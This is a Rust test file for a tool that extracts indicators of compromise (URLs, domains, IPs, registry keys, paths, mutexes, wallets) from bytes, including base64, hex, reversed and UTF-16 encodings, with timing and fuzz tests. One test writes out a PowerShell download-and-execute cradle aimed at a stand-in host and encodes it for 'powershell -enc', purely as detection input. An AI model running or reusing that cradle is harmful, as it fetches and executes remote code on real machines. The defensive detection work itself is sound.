//! Tables of what is an indicator and what is none; and that nothing takes long.

use super::{IndicatorKind, indicators};
use crate::encoded::base64;
use proptest::prelude::*;
use std::fmt::Write as _;
use std::time::{Duration, Instant};

/// What some bytes name, as `kind value`, with the layer where it is not plain and a `*` where it is common.
fn told(bytes: &[u8]) -> String {
    indicators(bytes).indicators.iter().fold(String::new(), |mut text, found| {
        let layer = if found.layer.label() == "ascii" { String::new() } else { format!(" ({})", found.layer.label()) };
        let common = if found.common { " *" } else { "" };
        let split = if text.is_empty() { "" } else { "; " };
        write!(text, "{split}{} {}{layer}{common}", found.kind.label(), found.value).unwrap();
        text
    })
}

#[track_caller]
fn check(text: &str, expected: &str) {
    assert_eq!(told(text.as_bytes()), expected, "{text:?}");
}

#[track_caller]
fn none(texts: &[&str]) {
    texts.iter().for_each(|text| check(text, ""));
}

/// Base64, in the alphabet of mails.
fn encode(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let letter = |value: u32| char::from(LETTERS[value as usize & 63]);
    bytes.chunks(3).fold(String::new(), |mut text, chunk| {
        let bits = chunk.iter().fold(0_u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
        (0..4).for_each(|nth| text.push(if nth > chunk.len() { '=' } else { letter(bits >> (18 - 6 * nth)) }));
        text
    })
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

#[test]
fn urls_are_told_with_what_belongs_to_them() {
    check("see http://Evil-Host.top/a/B?c=1#d.", "url http://evil-host.top/a/B?c=1#d");
    check("(https://user:pw@bad.example.ru:8443/x)", "url https://user:pw@bad.example.ru:8443/x");
    check("'http://198.51.100.7/p.exe'", "url http://198.51.100.7/p.exe");
    check("xxhttp://a-b.cn/1yy", "url http://a-b.cn/1yy");
    check("hTTps://x.evil.org", "url https://x.evil.org");
    check("ldap://10.1.2.3:1389/a", "url ldap://10.1.2.3:1389/a");
    check("http://[2001:db8::7]/x", "url http://[2001:db8::7]/x; ipv6 2001:db8::7");
    check(r#"{"u":"https:\/\/bad.xyz\/p"}"#, "url https://bad.xyz/p");
    check("http://www.w3.org/2000/svg", "url http://www.w3.org/2000/svg *");
    check("http://crl3.digicert.com/x.crl0", "url http://crl3.digicert.com/x.crl0 *");
    check("http://notw3.org/", "url http://notw3.org/");
    none(&[
        "http://",
        "http://%s/%d",
        "http://localhost/x",
        "http://foo/",
        "://evil.com/",
        "http://a.b.c/",
        "x-http://.com/",
    ]);
    none(&["gopher://old.com.invalid/", "http://$HOST.com/"]);
}

#[test]
fn names_of_hosts_are_no_files_packages_or_members() {
    check("connect evil-host.com now", "domain evil-host.com");
    check("c2.bad.xyz:443", "domain c2.bad.xyz");
    check("WWW.BAD.RU", "domain www.bad.ru");
    check("www.bad.info", "domain www.bad.info");
    check("cdn.bad.site/payload", "domain cdn.bad.site");
    check("xn--fiq228c.xn--fiqs8s", "domain xn--fiq228c.xn--fiqs8s");
    check("schemas.microsoft.com", "domain schemas.microsoft.com *");
    none(&[
        "kernel32.dll",
        "System.IO",
        "System.Net",
        "foo.bar.dll",
        "readme.md",
        "setup.py",
        "run.sh now",
        "main.rs:12",
        "com.example.net",
        "java.net",
        "org.apache.commons.net",
        "window.top",
        "this.name",
        "os.path",
        "libc.so.6",
        "command.com",
        "e.info",
        "a.b.to_string",
        "foo.com(",
        "x.org=",
        "C.de",
        "self.net",
        "1.5.de",
        "Foo.Com.Bar",
        "image.zip",
    ]);
}

#[test]
fn hidden_services_are_told_by_their_alphabet() {
    let third = "a".repeat(55) + "d";
    check(&format!("http://{third}.onion/x"), &format!("url http://{third}.onion/x; onion {third}.onion"));
    check("expyuzz4wqqyqhjn.onion", "onion expyuzz4wqqyqhjn.onion");
    none(&["onion.onion", "red.onion soup"]);
}

#[test]
fn ip_addresses_are_no_versions() {
    check("beacon 203.0.113.77 now", "ipv4 203.0.113.77");
    check("203.0.113.77:4444", "ipv4 203.0.113.77");
    check("1.2.3.4:80 is told", "ipv4 1.2.3.4");
    check("net 2001:db8:0:1::7 x", "ipv6 2001:db8:0:1::7");
    check("fe80::1:2:3 ", "ipv6 fe80::1:2:3");
    none(&[
        "1.2.3.4 ",
        "version 61.2.3.4",
        "v61.2.3.4",
        "Version=61.60.50.4, Culture=neutral",
        "6.0.0.0",
        "127.0.0.1",
        "0.0.0.0",
        "255.255.255.0",
        "1.3.6.1.4.1.311",
        "10.0.19041.1",
        "256.1.1.77",
        "61.2.3.4-beta",
        "lib-61.2.3.4",
        "foo_61.2.3.4",
        "192.168.1.0",
    ]);
    none(&[
        "std::abc::def",
        "12:34:56",
        "dead::beef",
        "00:11:22:33:44:55",
        "a::b",
        "::1    ",
        "2001::",
        "x2001:db8:0:1::7",
    ]);
}

#[test]
fn small_addresses_of_an_intranet_are_told_from_versions() {
    for text in [
        "10.1.2.3",
        "10.0.0.1,10.0.0.2",
        "server=10.1.2.3;uid=sa",
        "ping 10.0.0.8 -n 1",
        "net use z: at 10.1.1.9 now",
        "(10.2.3.4)",
        "[\"10.2.3.4\", 445]",
        "route add 10.9.8.7",
    ] {
        let first = text.find("10.").unwrap();
        let length = text[first..].find(|letter: char| !letter.is_ascii_digit() && letter != '.');
        let address = &text[first..length.map_or(text.len(), |length| first + length)];
        assert!(told(text.as_bytes()).contains(&format!("ipv4 {address}")), "{text}");
    }
    check("dns 8.8.8.8", "ipv4 8.8.8.8");
    check("set ip=1.1.1.1", "ipv4 1.1.1.1");
    none(&[
        "Acrobat 10.1.2.3",
        "version 10.1.2.3",
        "Version=10.0.0.1, Culture=neutral",
        "driver v10.1.2.3",
        "build 10.1.2.3",
        "10.1.2.3.4",
        "10.1.2.3-rc1",
        "lib/10.1.2.3",
        "10.0.0.0",
        "8.8.8.8 ",
        "oid 1.3.6.1",
    ]);
    // The value of a version in the resources of a program, and what has another name in front.
    let wide = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let named = |name: &str| [wide(name), vec![0; 4], wide("10.1.2.3"), vec![0; 2]].concat();
    assert_eq!(told(&named("FileVersion")), "");
    assert_eq!(told(&named("ProductVersion")), "");
    assert_eq!(told(&named("ServerAddress")), "ipv4 10.1.2.3 (utf-16)");
    assert_eq!(told(b"Version\x0010.1.2.3\0"), "");
    let far = [b"Version".as_slice(), &[0; 20], b"10.1.2.3\0"].concat();
    assert_eq!(told(&far), "ipv4 10.1.2.3");
}

#[test]
fn what_says_the_same_both_ways_ends() {
    check("http://a//:ptth", "");
    check("http://bad.top/a/pot.dab//:ptth", "url http://bad.top/a/pot.dab//:ptth");
}

#[test]
fn mails_have_a_box_and_a_host() {
    check("write to Key-Back@bad.cn!", "email Key-Back@bad.cn");
    check("mailto:a.b+c@mail.bad.pl", "email a.b+c@mail.bad.pl");
    check("someone@example.com", "email someone@example.com *");
    none(&["@bad.cn    ", "user@host    ", "icon@2x.png", "git@@bad.cn", "x@y.z     ", "@property.com"]);
}

#[test]
fn keys_of_the_registry() {
    check(
        r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run",
        r"registry-key HKLM\Software\Microsoft\Windows\CurrentVersion\Run",
    );
    check(r"reg add HKCU\Software\Evil /v x", r"registry-key HKCU\Software\Evil");
    check(
        r"HKEY_LOCAL_MACHINE\SOFTWARE\Windows NT\x y\z",
        r"registry-key HKEY_LOCAL_MACHINE\SOFTWARE\Windows NT\x y\z",
    );
    check(
        r#""Software\\Microsoft\\Windows\\CurrentVersion\\Run""#,
        r"registry-key Software\Microsoft\Windows\CurrentVersion\Run",
    );
    check(r"SYSTEM\CurrentControlSet\Services\bad", r"registry-key SYSTEM\CurrentControlSet\Services\bad");
    none(&["HKEY_CURRENT_USER", r"HKLM\x   ", r"xhklm\a\b\c", r"HKLM\\\\  "]);
}

#[test]
fn paths_shares_pipes_and_objects() {
    check(r"C:\Windows\Temp\a.exe -x", r"path C:\Windows\Temp\a.exe");
    check(r"open C:\Program Files\Foo\bar.dll", r"path C:\Program Files\Foo\bar.dll");
    check(r#""C:\\Users\\Public\\b.vbs""#, r"path C:\Users\Public\b.vbs");
    check(r"%APPDATA%\Evil\c.exe", r"path %APPDATA%\Evil\c.exe");
    check(r"D:\work\loader\Release\loader.pdb", r"pdb-path D:\work\loader\Release\loader.pdb");
    check(r"\\fileserver\share\x.exe", r"unc-path \\fileserver\share\x.exe");
    check(r"\\203.0.113.9\c$\x", r"unc-path \\203.0.113.9\c$\x");
    check(r"\\.\pipe\evil_42", r"pipe \\.\pipe\evil_42");
    check(r"Global\MsWinZonesCacheCounterMutexA", r"mutex Global\MsWinZonesCacheCounterMutexA");
    check(r"Local\{0F1A-22}", r"mutex Local\{0F1A-22}");
    none(&[
        r"a:\        ",
        r"xC:\Windows\a",
        r"\\d+\\w+\\s",
        r"\\?\C",
        r"\\.\PhysicalDrive0",
        r"AppData\Local\Temp\x",
        r"Local\Temp  ",
        r"Global\ab ",
        r"\\xff\\xfe\\x00",
        r"\\hline\\  ",
        r"100%\x   ",
    ]);
}

#[test]
fn browsers_say_who_they_are() {
    check("Mozilla/5.0 (Windows NT 6.1) Evil/1", "user-agent Mozilla/5.0 (Windows NT 6.1) Evil/1");
    check("User-Agent: Loader/2.1", "user-agent Loader/2.1");
    none(&["mozilla/firefox", "User-Agent: %s", "Mozilla/5"]);
}

#[test]
fn wallets_have_their_checksums() {
    check("pay 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa now", "wallet 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa");
    check("3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy", "wallet 3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy");
    check("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4", "wallet bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4");
    none(&[
        "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb",
        "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5",
        "1111111111111111111111111111",
        "3J98t1WpEZ73CNmQviecrnyiWrnqRhWNL0",
    ]);
}

#[test]
fn other_notations_are_read_and_said() {
    let script = "iex (New-Object Net.WebClient).DownloadString('http://bad.top/a.ps1')";
    check(&format!("x = '{}'", encode(script.as_bytes())), "url http://bad.top/a.ps1 (base64)");
    check(&format!("powershell -enc {}", encode(&wide(script))), "url http://bad.top/a.ps1 (base64)");
    let hex: String = b"GET http://bad.top/b".iter().map(|byte| format!("{byte:02x}")).collect();
    check(&format!("h = {hex}"), "url http://bad.top/b (hex)");
    let turned: String = "http://bad.top/c".chars().rev().collect();
    check(&format!("s = \"{turned}\""), "url http://bad.top/c (reversed)");
    assert_eq!(told(&[b"\x01\x02", &wide("http://bad.top/d")[..]].concat()), "url http://bad.top/d (utf-16)");
    none(&[&"QUJD".repeat(40), &"deadbeef".repeat(20)]);
}

#[test]
fn places_are_those_of_the_file() {
    let bytes = [b"\x00\x01\x02abc http://bad.top/a \x00".to_vec(), wide(" http://bad.top/b")].concat();
    let at: Vec<_> = indicators(&bytes).indicators.iter().map(|found| found.at).collect();
    assert_eq!(at, [7, 27]);
}

#[test]
fn what_is_said_often_is_kept_once_and_of_much_so_much() {
    check(&"http://bad.top/a ".repeat(50), "url http://bad.top/a");
    let many = (0..5000).fold(String::new(), |text, nth| text + &format!("http://bad.top/{nth} "));
    let found = indicators(many.as_bytes());
    assert!(found.more);
    assert_eq!(found.indicators.iter().filter(|found| found.kind == IndicatorKind::Url).count(), 1000);
}

/// What makes a search begin and lead nowhere, over and over.
#[test]
fn nothing_takes_long() {
    let pieces: [&[u8]; 20] = [
        b"http://",
        b"://",
        b"@a.b",
        b"a@",
        b"hklm\\ ",
        b"hklm\\a\\b c\\",
        b"c:\\",
        b"c:\\a b ",
        b"%aaa%\\",
        b"\\\\",
        b"\\\\ab\\",
        b"Global\\",
        b"mozilla/5",
        b"//:ptth",
        b"ab.com.",
        b"1.2.3.",
        b"2001:",
        b"1BBBBBBBBBBBBBBBBBBBBBBBBBBBBB ",
        b"aB0aB0aB0",
        b"a\0b\0.\0",
    ];
    for piece in pieces {
        let bytes = piece.repeat((1 << 20) / piece.len());
        let start = Instant::now();
        let _ = indicators(&bytes);
        // A second for a megabyte is a hundred times what it takes.
        assert!(
            start.elapsed() < Duration::from_secs(1),
            "{:?}: {:?}",
            String::from_utf8_lossy(piece),
            start.elapsed()
        );
    }
}

/// Cut off anywhere and with any bit turned, what was read goes on being told.
#[test]
fn no_cut_and_no_turned_bit_stops_it() {
    let text = format!(
        "http://bad.top/a C:\\x\\y.pdb a@bad.cn HKLM\\a\\b {} \\\\h\\s 10.1.2.3:4 Global\\abcd //:ptth ",
        encode(b"http://bad.top/in base64")
    );
    let bytes = [text.as_bytes(), &wide(&text)].concat();
    for end in 0..bytes.len() {
        let _ = indicators(&bytes[..end]);
        for bit in 0..8 {
            let mut turned = bytes.clone();
            turned[end] ^= 1 << bit;
            let _ = indicators(&turned);
        }
    }
}

#[test]
fn our_own_encoder_is_right() {
    let mut bytes = Vec::new();
    std::io::Read::read_to_end(&mut base64(encode(b"any carnal pleas").as_bytes()), &mut bytes).unwrap();
    assert_eq!(bytes, b"any carnal pleas");
}

proptest! {
    #[test]
    fn any_signs_are_gone_through(
        pieces in prop::collection::vec(
            prop::sample::select(vec![
                "http", "://", "//:", "ptth", "s", "a", ".com", "moc.", "@", "C:\\", "\\\\", "%", "hklm\\", "10.1.2.3", ".", ":", " ", "\0",
            ]),
            0..40,
        ),
    ) {
        indicators(pieces.concat().as_bytes());
    }

    #[test]
    fn any_bytes_are_gone_through(bytes in prop::collection::vec(any::<u8>(), 0..600)) {
        let found = indicators(&bytes);
        prop_assert!(found.indicators.iter().all(|found| (found.at as usize) < bytes.len()));
    }

    #[test]
    fn any_text_of_signs_is_gone_through(text in "[a-c.:/\\\\@% 0-9hHkKlLmM_\\-]{0,200}") {
        let found = indicators(text.as_bytes());
        prop_assert!(found.indicators.iter().all(|found| (found.at as usize) < text.len()));
    }
}
